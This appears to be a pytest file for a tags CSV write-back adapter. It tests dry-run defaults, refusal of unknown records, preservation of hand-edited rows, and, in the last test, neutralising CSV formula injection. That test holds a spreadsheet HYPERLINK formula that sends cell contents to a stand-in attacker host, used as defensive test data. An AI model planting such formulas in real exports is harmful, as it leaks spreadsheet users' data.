"""Write-back to the tags CSV: dry-run by default, atomic, only known records."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from file_adapter_helpers import row, sample_rows, write_csv
from kvrules_file import FileAdapter, FileConfig

from kvrules.testing import content


@pytest.fixture
def adapter(tmp_path: Path) -> FileAdapter:
    write_csv(tmp_path / "projects.csv", sample_rows(3))
    return FileAdapter(FileConfig(path=tmp_path))


def rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="") as fh:
        return list(csv.DictReader(fh))


def test_tags_csv_rows_and_removal(adapter: FileAdapter, tmp_path: Path) -> None:
    tags_file = tmp_path / "kvrules-tags.csv"
    assert not adapter.write_tags("p-1", ["ks:high"]).written and not tags_file.exists()
    adapter.write_tags("p-1", ["ks:high", "ks:export-control", "ks:high"], dry_run=False)
    adapter.write_tags("p-2", ["ks:low"], dry_run=False)
    written = rows(tags_file)
    assert [(r["record_id"], r["tags"]) for r in written] == [
        ("p-1", "ks:export-control;ks:high"),
        ("p-2", "ks:low"),
    ]
    assert all(r["updated_at"].endswith("+00:00") for r in written)
    assert adapter.write_tags(
        "p-1", [], dry_run=False, written=["ks:export-control", "ks:high"]
    ).written
    assert [r["record_id"] for r in rows(tags_file)] == ["p-2"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["kvrules-tags.csv", "projects.csv"]


def test_tags_file_in_the_export_folder_is_not_read_as_an_export(adapter: FileAdapter) -> None:
    adapter.write_tags("p-1", ["ks:high"], dry_run=False)
    assert [r.record_id for r in content(adapter.fetch())] == ["p-1", "p-2", "p-3"]


def test_refuses_unknown_records_and_unstorable_tags(adapter: FileAdapter) -> None:
    with pytest.raises(LookupError, match="no record 'p-99'"):
        adapter.write_tags("p-99", ["ks:high"], dry_run=False)
    with pytest.raises(ValueError, match="tags must be"):
        adapter.write_tags("p-1", ["ks:high;ks:low"])


def test_explicit_tags_file(tmp_path: Path) -> None:
    export = write_csv(tmp_path / "projects.csv", sample_rows(1))
    target = tmp_path / "out" / "tags.csv"
    target.parent.mkdir()
    adapter = FileAdapter(FileConfig(path=export, tags_file=target))
    adapter.write_tags("p-1", ["ks:medium"], dry_run=False)
    assert rows(target)[0]["tags"] == "ks:medium"


def test_a_row_edited_by_hand_is_left_as_it_is(adapter: FileAdapter, tmp_path: Path) -> None:
    tags_file = tmp_path / "kvrules-tags.csv"
    adapter.write_tags("p-1", ["ks:medium"], dry_run=False)
    adapter.write_tags("p-2", ["ks:medium"], dry_run=False)
    # Someone raises p-1 to high in the file (before the RIS imports it).
    text = tags_file.read_text(encoding="utf-8").replace("p-1,ks:medium", "p-1,ks:high")
    tags_file.write_text(text, encoding="utf-8")

    kept = adapter.write_tags("p-1", ["ks:low"], dry_run=False, written=["ks:medium"])
    updated = adapter.write_tags("p-2", ["ks:low"], dry_run=False, written=["ks:medium"])

    assert kept.skipped and not kept.written and kept.before == ["ks:high"]
    assert updated.written and updated.before == ["ks:medium"]
    assert [(r["record_id"], r["tags"]) for r in rows(tags_file)] == [
        ("p-1", "ks:high"),
        ("p-2", "ks:low"),
    ]


FORMULA_ID = '=HYPERLINK("https://attacker.example/?x="&A1,"open")'


@pytest.mark.parametrize(
    ("record_id", "cell"),
    [
        (FORMULA_ID, "'" + FORMULA_ID),
        ("+31-70", "'+31-70"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("'=quoted", "''=quoted"),  # an apostrophe of its own: a second one, read back as it was
        ("p-1", "p-1"),
    ],
)
def test_a_record_id_a_spreadsheet_would_run_is_written_inert(
    tmp_path: Path, record_id: str, cell: str
) -> None:
    """Security review: `record_id` went into kvrules-tags.csv as it was, formula and all,
    where every export of kvrules writes such a cell with a leading apostrophe."""
    write_csv(tmp_path / "projects.csv", [*sample_rows(1), *([] if record_id == "p-1" else
              [row(record_id, title="From the export", start="2026-01-01")])])  # fmt: skip
    adapter = FileAdapter(FileConfig(path=tmp_path))
    assert adapter.write_tags(record_id, ["ks:high"], dry_run=False).written
    tags_file = tmp_path / "kvrules-tags.csv"
    assert [r["record_id"] for r in rows(tags_file)] == [cell]
    # read back as the id it is: the tag is removed from that record's row, not left beside it
    assert adapter.write_tags(record_id, [], dry_run=False, written=["ks:high"]).written
    assert rows(tags_file) == []
